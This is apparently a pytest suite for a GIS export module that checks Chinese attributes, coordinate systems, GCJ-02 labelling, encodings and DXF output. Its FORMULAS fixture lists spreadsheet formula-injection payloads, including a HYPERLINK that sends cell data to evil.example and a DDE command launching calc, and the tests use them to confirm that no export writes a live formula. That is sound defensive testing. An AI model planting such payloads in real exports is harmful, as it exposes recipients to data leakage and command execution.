"""Every export format x CRS round-trips (geometry within 1 cm, Chinese attributes intact, CRS kept), and what a
colleague's GIS, CAD or spreadsheet receives is unambiguous: flat Shapefile zips with readable field names, GeoPackage
1.2 with an INTEGER-keyed metadata table, booleans as booleans, meaningful layer names, a DXF whose declared code
page is its real one, GCJ-02 named as such, and never a spreadsheet formula."""

import csv
import io
import json
import re
import sqlite3
import subprocess
import zipfile

import ezdxf
import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pyproj
import pytest
import shapely

from export.formats import (
    GCJ02_NAME,
    TARGETS,
    ExportError,
    ExportMeta,
    csv_bytes,
    csv_layer_bytes,
    dxf_bytes,
    export_layers,
    fit_encoding,
    geojson_bytes,
    gpkg_bytes,
    kml_bytes,
    neutralise_cell,
    shapefile_field_names,
    shapefile_zip_bytes,
    shapefiles_zip_bytes,
    xlsx_bytes,
    xlsx_layer_bytes,
)
from gis.crs import gcj02_to_wgs84
from ingest import readers as imp

META = ExportMeta(title="测试导出", exported="2026-11-26")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.fixture
def layer(data):
    sp = data.subparks.iloc[:3].copy()
    sp["note_long_field_name"] = ["甲", "乙", "<b>丙</b>"]
    return sp


@pytest.fixture
def hostile(data):
    """Parcels whose text fields start like formulas, with a negative number and a boolean column."""
    gdf = data.parcels.iloc[: len(FORMULAS)].copy()
    gdf["name_zh"] = FORMULAS
    gdf["=evil_column"] = "x"
    gdf["delta"] = -np.arange(len(FORMULAS), dtype=float) - 0.5
    gdf["flag"] = pd.Series([True, False, None, True, True, False, None], index=gdf.index, dtype=object)
    return gdf


def _max_shift_m(a: gpd.GeoSeries, b: gpd.GeoSeries) -> float:
    am, bm = a.to_crs("EPSG:4549"), b.to_crs("EPSG:4549")
    return float(max(shapely.hausdorff_distance(x, y) for x, y in zip(am, bm)))


def _read(data: bytes, suffix: str, tmp_path, **kw) -> gpd.GeoDataFrame:
    path = tmp_path / f"f{suffix}"
    path.write_bytes(data)
    return gpd.read_file(path, engine="pyogrio", **kw)


@pytest.mark.parametrize("target", ["wgs84", "cgcs2000", "cgcs2000_gk120"])
def test_geojson_gpkg_round_trip(layer, target, tmp_path):
    epsg = int(TARGETS[target][0].split(":")[1])
    gj = _read(geojson_bytes(layer, meta=META, target=target), ".geojson", tmp_path)
    gp = _read(gpkg_bytes({"subparks": layer}, meta=META, target=target), ".gpkg", tmp_path, layer="subparks")
    for back in (gj, gp):
        assert back.crs.to_epsg() == epsg
        assert back["name_zh"].tolist() == layer["name_zh"].tolist()
        assert back["note_long_field_name"].tolist() == ["甲", "乙", "<b>丙</b>"]
        assert _max_shift_m(back.geometry, layer.geometry) < 0.01
    assert json.loads(geojson_bytes(layer, meta=META, target=target))["metadata"]["title"] == "测试导出"


def test_gpkg_is_version_1_2_holding_only_the_data_layers_with_gpkg_metadata(data, tmp_path):
    raw = gpkg_bytes({"subparks": data.subparks, "stations": data.stations}, meta=META, target="cgcs2000_gk120")
    path = tmp_path / "x.gpkg"
    path.write_bytes(raw)
    assert [n for n, _ in pyogrio.list_layers(path)] == ["subparks", "stations"]  # data first, nothing else
    meta = pyogrio.read_info(path, layer="subparks")["dataset_metadata"]
    layer_meta = pyogrio.read_info(path, layer="stations")["layer_metadata"]
    with sqlite3.connect(path) as con:
        version = con.execute("PRAGMA user_version").fetchone()[0]
        app_id = con.execute("PRAGMA application_id").fetchone()[0]
        kinds = dict(con.execute("SELECT table_name, data_type FROM gpkg_contents").fetchall())
    con.close()
    assert meta["crs"].startswith("CGCS2000 / 3-degree") and meta["title"] == "测试导出"
    assert layer_meta["title"] == "测试导出" and layer_meta["crs"] == meta["crs"]
    assert kinds == {"subparks": "features", "stations": "features"}
    assert version == 10200 and app_id == 0x47504B47  # GeoPackage 1.2, not 1.4


def test_a_one_layer_gpkg_converts_with_ogr2ogr_without_a_layer_name(layer, tmp_path):
    src, out = tmp_path / "in.gpkg", tmp_path / "out.geojson"
    src.write_bytes(gpkg_bytes({"subparks": layer}, meta=META, target="wgs84"))
    done = subprocess.run(["ogr2ogr", str(out), str(src)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr  # aborted on the export_metadata table before
    assert len(json.loads(out.read_text(encoding="utf-8"))["features"]) == len(layer)


def test_booleans_stay_booleans(hostile, tmp_path):
    layer = hostile[["flag", "geometry"]]
    gp = tmp_path / "b.gpkg"
    gp.write_bytes(gpkg_bytes({"p": layer}))
    with sqlite3.connect(gp) as con:
        assert dict((r[1], r[2]) for r in con.execute("PRAGMA table_info(p)"))["flag"] == "BOOLEAN"
    con.close()
    assert [f["properties"]["flag"] for f in json.loads(geojson_bytes(layer))["features"]] == [
        True,
        False,
        None,
        True,
        True,
        False,
        None,
    ]
    shp = _read(shapefile_zip_bytes(layer, name="p"), ".shp.zip", tmp_path)
    info = pyogrio.read_info(tmp_path / "f.shp.zip")
    assert dict(zip(info["fields"], info["ogr_subtypes"]))["flag"] == "OFSTBoolean"
    assert shp["flag"].dropna().tolist() == [True, False, True, True, False]


def test_layers_inside_files_have_meaningful_names(layer, tmp_path):
    assert json.loads(geojson_bytes(layer, name="subparks"))["name"] == "subparks"
    (tmp_path / "x.kml").write_bytes(kml_bytes(layer, name="subparks"))
    assert [n for n, _ in pyogrio.list_layers(tmp_path / "x.kml")] == ["subparks"]
    raw, _, _ = export_layers({"subparks": layer}, fmt="geojson", target="wgs84", meta=META)
    assert json.loads(raw)["name"] == "subparks"


@pytest.mark.parametrize("encoding", ["UTF-8", "GBK"])
def test_zipped_shapefile_encodings_prj_cpg_and_field_names(layer, encoding, tmp_path):
    raw = shapefile_zip_bytes(layer, name="subparks", target="cgcs2000_gk120", encoding=encoding, meta=META)
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        names = set(zf.namelist())
        assert {
            "subparks.shp",
            "subparks.shx",
            "subparks.dbf",
            "subparks.prj",
            "subparks.cpg",
            "fields.csv",
            "metadata.txt",
        } <= names
        assert zf.read("subparks.cpg").decode().strip() == encoding
        rows = list(csv.DictReader(io.StringIO(zf.read("fields.csv").decode("utf-8-sig"))))
    mapping = {r["full_name"]: r["shapefile_field"] for r in rows}
    back = _read(raw, ".shp.zip", tmp_path)
    assert back.crs.to_epsg() == 4549
    assert back[mapping["name_zh"]].tolist() == layer["name_zh"].tolist()  # Chinese survives both encodings
    assert back[mapping["note_long_field_name"]].tolist()[2] == "<b>丙</b>"
    assert _max_shift_m(back.geometry.set_crs(4549, allow_override=True), layer.geometry) < 0.01
    if encoding == "GBK":  # really GBK bytes in the .dbf, not UTF-8
        with zipfile.ZipFile(io.BytesIO(raw)) as zf:
            dbf = zf.read("subparks.dbf")
        assert layer["name_zh"].iloc[0].encode("gbk") in dbf


def test_gbk_keeps_a_stand_in_for_what_it_cannot_hold(layer, tmp_path):
    """GDAL silently drops characters outside the code page (``m²`` became ``m``): a readable stand-in stays."""
    assert fit_encoding("12 m² · 约", encoding="GBK") == "12 m2 · 约"
    assert fit_encoding("a😀b", encoding="GBK") == "a?b" and fit_encoding("a😀b", encoding="UTF-8") == "a😀b"
    noted = layer.assign(note_long_field_name="面积 3 m²")
    raw = shapefile_zip_bytes(noted, name="subparks", target="wgs84", encoding="GBK", meta=META)
    back = _read(raw, ".shp.zip", tmp_path)
    assert "面积 3 m2" in back.iloc[:, :-1].to_numpy().ravel().tolist()


def test_shapefile_field_names_are_cut_by_bytes_readable_and_unique():
    cols = [
        "declared_area_km2",
        "declared_area_m2",
        "name_zh",
        "名称",
        "x" * 30,
        "规划用途说明",
        "规划用地面积",
        "用地 性质（现状）",
        "2024年人口",
    ]
    for encoding, limit_bytes in (("UTF-8", 10), ("GBK", 10)):
        m = shapefile_field_names(cols, encoding=encoding)
        values = list(m.values())
        assert all(len(v.encode(encoding)) <= limit_bytes for v in values)
        assert len({v.lower() for v in values}) == len(cols)
        assert not any("__" in v or v.startswith("_") or v.endswith("_") for v in values)
        assert m["name_zh"] == "name_zh" and m["declared_area_km2"] == "declared_a"
        assert m["declared_area_m2"] == "declared_2" and m["名称"] == "名称"
    assert shapefile_field_names(cols, encoding="UTF-8")["规划用途说明"] == "规划用"
    assert shapefile_field_names(cols, encoding="GBK")["规划用途说明"] == "规划用途说"
    assert shapefile_field_names(cols, encoding="GBK")["规划用地面积"] == "规划用地面"
    assert shapefile_field_names(cols, encoding="UTF-8")["规划用地面积"] == "规划_2"  # 规划用 is taken
    assert shapefile_field_names(cols, encoding="UTF-8")["用地 性质（现状）"] == "用地_性"
    assert shapefile_field_names(cols, encoding="UTF-8")["2024年人口"] == "f2024年"


@pytest.mark.parametrize("encoding", ["UTF-8", "GBK"])
def test_full_field_names_survive_a_round_trip_through_fields_csv(encoding):
    gdf = gpd.GeoDataFrame(
        {"规划用途说明": ["研发"], "规划用地面积": [1.5], "intended_use_long_name": ["x"]},
        geometry=[shapely.box(121.39, 31.25, 121.395, 31.255)],
        crs="EPSG:4326",
    )
    raw = shapefile_zip_bytes(gdf, name="地块", encoding=encoding)
    back = imp.read_upload("地块.shp.zip", raw)
    assert back.columns == ["规划用途说明", "规划用地面积", "intended_use_long_name"]
    assert back.gdf["规划用途说明"].tolist() == ["研发"] and back.layer == "地块"
    assert any(n.code == "imp_note_fields_restored" for n in back.notes)


def test_several_shapefiles_are_one_flat_zip_the_importer_reads(data):
    raw, name, mime = export_layers(
        {"subparks": data.subparks, "stations": data.stations}, fmt="shp", target="wgs84", meta=META
    )
    assert name.endswith(".shp.zip") and mime == "application/zip"
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        names = zf.namelist()
    assert not [n for n in names if n.endswith(".zip") or "/" in n]  # no zip inside the zip, no folders
    assert {"subparks.shp", "subparks.dbf", "stations.shp", "stations.dbf", "fields.csv", "metadata.txt"} <= set(names)
    first = imp.read_upload(name, raw, expect="any")
    assert first.layers == ["subparks", "stations"] and len(first.gdf) == len(data.subparks)
    stations = imp.read_upload(name, raw, layer="stations", expect="point")
    assert len(stations.gdf) == len(data.stations) and "name_zh" in stations.columns


def test_kml_round_trip_and_gcj02(layer, tmp_path):
    back = _read(kml_bytes(layer, meta=META), ".kml", tmp_path)
    assert back["Name"].tolist() == layer["name_zh"].tolist() and back.crs.to_epsg() == 4326
    assert _max_shift_m(back.geometry.force_2d(), layer.geometry) < 0.01
    raw = kml_bytes(layer, target="gcj02", meta=META)
    assert b"<description>title: " in raw and GCJ02_NAME.encode() in raw
    shifted = _read(raw, ".kml", tmp_path).geometry.force_2d()
    assert 400 < _max_shift_m(shifted, layer.geometry) < 600  # AMap-ready coordinates
    x, y = shapely.get_coordinates(shifted.iloc[0]).T
    wx, wy = gcj02_to_wgs84(x, y)
    assert np.allclose(np.column_stack([wx, wy]), shapely.get_coordinates(layer.geometry.iloc[0]), atol=2e-7)
    with pytest.raises(ExportError, match="lon/lat only"):
        kml_bytes(layer, target="cgcs2000_gk120")


def test_gcj02_exports_are_unmistakable(layer, tmp_path):
    gp = tmp_path / "g.gpkg"
    gp.write_bytes(gpkg_bytes({"subparks": layer}, meta=META, target="gcj02"))
    with sqlite3.connect(gp) as con:
        srs_name, srs_id, org = con.execute(
            "SELECT s.srs_name, s.srs_id, s.organization FROM gpkg_geometry_columns g JOIN gpkg_spatial_ref_sys s "
            "ON s.srs_id = g.srs_id WHERE g.table_name = 'subparks'"
        ).fetchone()
    con.close()
    crs_line = pyogrio.read_info(gp)["dataset_metadata"]["crs"]
    assert srs_name == GCJ02_NAME and srs_id != 4326 and org != "EPSG"
    assert gpd.read_file(gp).crs.name == GCJ02_NAME and gpd.read_file(gp).crs.to_epsg() is None
    assert "GCJ-02" in crs_line and "NOT WGS 84" in crs_line
    with zipfile.ZipFile(io.BytesIO(shapefile_zip_bytes(layer, name="subparks", target="gcj02", meta=META))) as zf:
        prj = zf.read("subparks.prj").decode("utf-8")
        assert "GCJ-02" in zf.read("metadata.txt").decode("utf-8")
    assert prj.startswith(f'LOCAL_CS["{GCJ02_NAME}"') and "4326" not in prj and prj.isascii()
    gj = json.loads(geojson_bytes(layer, target="gcj02"))
    assert "GCJ-02" in gj["coordinate_system"]
    assert all(f["properties"]["_crs"] == "GCJ-02 (AMap/Tencent; NOT WGS 84)" for f in gj["features"])
    # no GIS can take it for WGS 84: PROJ finds no way from it to EPSG:4326 (ogr2ogr -t_srs EPSG:4326 fails)
    with pytest.raises(pyproj.exceptions.ProjError):
        pyproj.Transformer.from_crs(gpd.read_file(gp).crs, "EPSG:4326", always_xy=True)
    kml = export_layers({"subparks": layer}, fmt="kml", target="gcj02", meta=META)[0]
    assert kml.count(b"GCJ-02 (AMap/Tencent; NOT WGS 84)") >= len(layer)
    for fmt in ("geojson", "gpkg", "shp", "kml", "dxf", "csv_wkt"):
        assert "GCJ-02" in export_layers({"subparks": layer}, fmt=fmt, target="gcj02", meta=META)[1]
    assert "GCJ" not in export_layers({"subparks": layer}, fmt="gpkg", target="wgs84", meta=META)[1]


def test_dxf_declares_its_real_code_page_and_a_chinese_font(data, tmp_path):
    raw = dxf_bytes(
        {"subparks": data.subparks, "stations": data.stations},
        meta=META,
        layer_names={"subparks": "子园", "stations": "地铁站"},
    )
    text = raw.decode("gbk")
    assert re.search(r"\$ACADVER\s+1\s+AC1018", text) and re.search(r"\$DWGCODEPAGE\s+3\s+ANSI_936", text)
    assert "桃浦智创城".encode("gbk") in raw  # the bytes are GBK, as declared
    path = tmp_path / "x.dxf"
    path.write_bytes(raw)
    doc = ezdxf.readfile(path)
    msp = doc.modelspace()
    assert {"子园", "地铁站", "METADATA"} <= {lyr.dxf.name for lyr in doc.layers}
    style = doc.styles.get("PUTUO_CJK")
    assert style.dxf.bigfont == "gbcbig.shx" and doc.header["$TEXTSTYLE"] == "PUTUO_CJK"
    texts = list(msp.query("TEXT[layer=='子园']"))
    assert set(data.subparks["name_zh"]) <= {t.dxf.text for t in texts}
    assert {t.dxf.style for t in texts} == {"PUTUO_CJK"}
    polys = msp.query("LWPOLYLINE[layer=='子园']")
    assert len(polys) >= len(data.subparks) and len(msp.query("POINT[layer=='地铁站']")) == len(data.stations)
    x, y = list(polys)[0].get_points("xy")[0]
    assert 500_000 < x < 700_000 and 3_400_000 < y < 3_500_000  # metres in EPSG:4549
    # GDAL (QGIS) reads Chinese from the declared code page alone: no DXF_ENCODING needed
    back = pyogrio.read_dataframe(path)
    assert "桃浦智创城" in set(back["Text"]) and "子园" in set(back["Layer"])


def test_dxf_text_is_one_line_and_survives_odd_characters(tmp_path):
    gdf = gpd.GeoDataFrame(
        {"name_zh": ["第一行\n第二行", "emoji 😀", "∑ é"]}, geometry=[shapely.Point(121.39, 31.25)] * 3, crs="EPSG:4326"
    )
    path = tmp_path / "o.dxf"
    path.write_bytes(dxf_bytes({"p": gdf}))
    texts = [e.dxf.text for e in ezdxf.readfile(path).modelspace().query("TEXT")]
    assert texts == ["第一行 第二行", "emoji ?", "∑ é"]


@pytest.mark.parametrize("geometry", ["wkt", "xy"])
def test_csv_round_trip(layer, geometry, tmp_path):
    raw = csv_layer_bytes(layer, target="cgcs2000_gk120", geometry=geometry, meta=META)
    assert raw.startswith(b"\xef\xbb\xbf")
    path = tmp_path / "x.csv"
    path.write_bytes(raw)
    opts = {"GEOM_POSSIBLE_NAMES": "wkt"} if geometry == "wkt" else {"X_POSSIBLE_NAMES": "x", "Y_POSSIBLE_NAMES": "y"}
    back = gpd.read_file(path, engine="pyogrio", **opts).set_crs(4549, allow_override=True)
    assert back["name_zh"].tolist() == layer["name_zh"].tolist()
    assert back["_crs"].iloc[0].startswith("CGCS2000 / 3-degree")
    if geometry == "wkt":
        assert _max_shift_m(back.geometry, layer.geometry) < 0.01
    else:
        inside = [p.within(g.buffer(0.01)) for p, g in zip(back.geometry, layer.to_crs(4549).geometry)]
        assert all(inside)


def test_export_layers_bundles_and_errors(data):
    raw, name, mime = export_layers(
        {"subparks": data.subparks, "stations": data.stations}, fmt="geojson", target="wgs84", meta=META
    )
    assert name == "putuo_subparks_stations_wgs84.zip" and mime == "application/zip"
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        assert sorted(zf.namelist()) == ["stations.geojson", "subparks.geojson"]
    one, name, mime = export_layers({"subparks": data.subparks}, fmt="kml", target="gcj02", meta=META)
    assert name == "putuo_subparks_GCJ-02_AMap_not_WGS84.kml" and one.startswith(b"<?xml")
    with pytest.raises(ExportError, match="Unknown format"):
        export_layers({"subparks": data.subparks}, fmt="mif", target="wgs84", meta=META)
    with pytest.raises(ExportError, match="No layer"):
        export_layers({}, fmt="gpkg", target="wgs84", meta=META)
    with pytest.raises(ExportError, match="Unknown target CRS utm51") as info:
        export_layers({"subparks": data.subparks}, fmt="gpkg", target="utm51", meta=META)
    assert "未知的目标坐标系" in info.value.text("zh")


# --- never a formula ------------------------------------------------------------------------------------------------
def _csv_rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _csv_cells(raw: bytes) -> list[str]:
    return [cell for row in _csv_rows(raw) for cell in row]


def _assert_no_formula_csv(raw: bytes) -> None:
    cells = _csv_cells(raw)
    assert cells
    bad = [
        c
        for c in cells
        if c.startswith(("=", "+", "@", "\t", "\r"))
        or (c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c))
    ]
    assert not bad, bad


def _assert_no_formula_xlsx(raw: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]


def test_neutralise_cell_changes_only_text_that_starts_like_a_formula():
    assert [neutralise_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [neutralise_cell(v, guard="\u200b") for v in FORMULAS] == ["\u200b" + v for v in FORMULAS]
    assert neutralise_cell(-5) == -5 and neutralise_cell(-0.5) == -0.5 and neutralise_cell("名称") == "名称"
    assert neutralise_cell(True) is True and neutralise_cell(None) is None


def test_no_export_path_writes_a_formula(hostile, tmp_path):
    table = pd.DataFrame(hostile.drop(columns="geometry"))
    _assert_no_formula_csv(csv_bytes(table))
    _assert_no_formula_csv(csv_layer_bytes(hostile, geometry="wkt"))
    _assert_no_formula_csv(csv_layer_bytes(hostile, geometry="xy", target="cgcs2000_gk120"))
    _assert_no_formula_xlsx(xlsx_bytes(table, sheet="排名"))
    _assert_no_formula_xlsx(xlsx_layer_bytes(hostile))
    raw, _, _ = export_layers({"a": hostile, "b": hostile}, fmt="csv_wkt", target="wgs84", meta=META)
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        for name in zf.namelist():
            _assert_no_formula_csv(zf.read(name))
    renamed = hostile.rename(columns={"name_zh": '=HYPERLINK("x")'})
    with zipfile.ZipFile(io.BytesIO(shapefiles_zip_bytes({"p": renamed}))) as zf:
        _assert_no_formula_csv(zf.read("fields.csv"))


def test_spreadsheet_text_is_kept_and_numbers_stay_numbers(hostile):
    table = pd.DataFrame(hostile.drop(columns="geometry"))
    header, *rows = _csv_rows(csv_bytes(table))
    # UTF-8: an invisible zero-width space in front, the visible text unchanged (no quote shown)
    assert [r[header.index("name_zh")] for r in rows] == ["\u200b" + v for v in FORMULAS]
    assert [float(r[header.index("delta")]) for r in rows] == table["delta"].tolist()  # negatives stay numbers
    assert "\u200b=evil_column" in header and not any("'" in c for r in rows for c in r[:1])
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, sheet="排名")))
    ws = wb.active
    header = [c.value for c in ws[1]]
    name_col, delta_col = header.index("name_zh"), header.index("delta")
    rows = list(ws.iter_rows(min_row=2))
    assert [r[name_col].value for r in rows] == FORMULAS  # text kept exactly, as a string cell
    # a string cell is never evaluated: no quote prefix (Excel showed it in the formula bar)
    assert all(r[name_col].data_type == "s" and not r[name_col].quotePrefix for r in rows)
    assert [r[delta_col].value for r in rows] == table["delta"].tolist()
    assert {r[delta_col].data_type for r in rows} == {"n"}
    assert "=evil_column" in header


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    raw = xlsx_bytes(pd.DataFrame({"a": ["bell\x07 here", "ok"]}), sheet="a/b:c")
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    assert wb.sheetnames == ["a_b_c"] and wb.active["A2"].value == "bell here"


@pytest.mark.parametrize("fmt", ["shp", "gpkg", "geojson", "kml", "dxf"])
def test_a_geometry_collection_a_repair_left_is_written_as_its_polygons(fmt, tmp_path):
    """A self-crossing polygon repaired into polygons plus a stray line: every format writes its polygonal part."""
    from export.formats import export_layers

    collection = shapely.GeometryCollection(
        [shapely.box(121.40, 31.20, 121.41, 31.21), shapely.LineString([(121.40, 31.20), (121.42, 31.22)])]
    )
    gdf = gpd.GeoDataFrame({"id": ["R1"], "name_zh": ["修复后的地块"]}, geometry=[collection], crs=4326)
    data, name, _ = export_layers({"parcels": gdf}, fmt=fmt, target="wgs84", meta=META)
    path = tmp_path / name
    path.write_bytes(data)
    if fmt in ("shp", "gpkg", "geojson"):
        back = gpd.read_file(path, engine="pyogrio")
        assert list(back.geom_type) == ["MultiPolygon"] or list(back.geom_type) == ["Polygon"]
        assert back.geometry.iloc[0].area == pytest.approx(1e-4, rel=1e-3)


def test_dxf_carries_attributes_extent_visible_points_and_its_crs(data, tmp_path):
    """What a CAD user needs without a GIS: every attribute (XDATA), the drawing opening on the data, stations
    that show, the coordinate system said in the header, a TrueType Chinese style beside the SHX one."""
    path = tmp_path / "cad.dxf"
    path.write_bytes(
        dxf_bytes(
            {"subparks": data.subparks, "stations": data.stations},
            meta=META,
            layer_names={"subparks": "子园", "stations": "地铁站"},
        )
    )
    doc = ezdxf.readfile(path)
    msp = doc.modelspace()
    first = next(e for e in msp.query("LWPOLYLINE[layer=='子园']"))
    fields = dict(text.split("=", 1) for _, text in first.get_xdata("PUTUO"))
    assert fields["id"] in set(data.subparks["id"]) and fields["name_zh"] in set(data.subparks["name_zh"])
    assert fields["cluster"] in {"north", "south"}
    (x0, y0, _), (x1, y1, _) = doc.header["$EXTMIN"], doc.header["$EXTMAX"]
    xs, ys = zip(*(p for e in msp.query("LWPOLYLINE") for p in e.get_points("xy")))
    assert x0 <= min(xs) and max(xs) <= x1 and y0 <= min(ys) and max(ys) <= y1 and x1 - x0 < 50_000
    assert doc.header["$LIMMAX"][0] == pytest.approx(x1) and doc.header["$PDMODE"] == 34 and doc.header["$PDSIZE"] > 0
    assert "EPSG:4549" in doc.header.custom_vars.get("CRS")
    assert doc.styles.get("PUTUO_CJK_TTF").dxf.font == "simsun.ttc"
    assert len(msp.query("POINT[layer=='地铁站']")) == len(data.stations)
    back = pyogrio.read_dataframe(path)  # GIS readers still see one point per station
    assert (back["Layer"] == "地铁站").sum() >= len(data.stations)


def test_xlsx_of_a_text_only_layer_opens_in_gdal_with_its_header_and_readable_widths(data, tmp_path):
    """Roads are text columns only: GDAL must still see the header (not Field1…), and columns are wide enough."""
    import openpyxl

    from export.formats import xlsx_layer_bytes

    path = tmp_path / "roads.xlsx"
    path.write_bytes(xlsx_layer_bytes(data.roads, target="wgs84", geometry="wkt", meta=META, sheet="roads"))
    back = pyogrio.read_dataframe(path, read_geometry=False)
    assert "name_zh" in back.columns and not any(c.startswith("Field") for c in back.columns)
    assert len(back) == len(data.roads)
    sheet = openpyxl.load_workbook(path).active
    widths = {
        sheet.cell(1, k).value: sheet.column_dimensions[openpyxl.utils.get_column_letter(k)].width
        for k in range(1, sheet.max_column + 1)
    }
    assert widths["name_zh"] >= 2 * max(len(n) for n in data.roads["name_zh"]) and widths["wkt"] == 60


def test_maps_and_exports_are_dated_in_beijing(monkeypatch):
    """At 01:00 in Beijing (17:00 UTC the day before) the date printed is Beijing's, as the history shows it."""
    from datetime import UTC, datetime

    from text import clock

    monkeypatch.setattr(clock, "utc_now", lambda: datetime(2026, 12, 6, 17, 0, tzinfo=UTC))
    assert clock.beijing_today() == "2026-12-07"
    assert "exported: 2026-12-07" in ExportMeta(title="x").lines("WGS 84")


def test_csv_in_gb18030_for_chinese_excel_and_utf8_with_bom_say_which_is_which(hostile):
    table = pd.DataFrame({"名称": ["桃浦智创城", "=1+1", "䶮"], "n": [1, -2, 3]})
    utf8, gb = csv_bytes(table), csv_bytes(table, encoding="GBK")
    assert utf8.startswith(b"\xef\xbb\xbf") and not gb.startswith(b"\xef\xbb\xbf")
    assert "桃浦智创城".encode("gbk") in gb  # what a Chinese Excel (code page 936) decodes
    rows = list(csv.reader(io.StringIO(gb.decode("gb18030"), newline="")))
    assert rows[1:] == [["桃浦智创城", "1"], ["'=1+1", "-2"], ["䶮", "3"]]  # lossless; GBK has no invisible guard
    assert csv_bytes(table, encoding="GB18030") == gb
    with pytest.raises(ExportError):
        csv_bytes(table, encoding="latin-1")
    _assert_no_formula_csv(csv_layer_bytes(hostile, encoding="GB18030").decode("gb18030").encode("utf-8-sig"))
    raw, name, _ = export_layers({"subparks": hostile}, fmt="csv_xy", target="wgs84", meta=META, encoding="GBK")
    assert name.endswith("_wgs84_GB18030.csv") and "\ufeff" not in raw.decode("gb18030")
    _, name, _ = export_layers({"subparks": hostile}, fmt="csv_xy", target="wgs84", meta=META)
    assert name.endswith("_wgs84.csv")
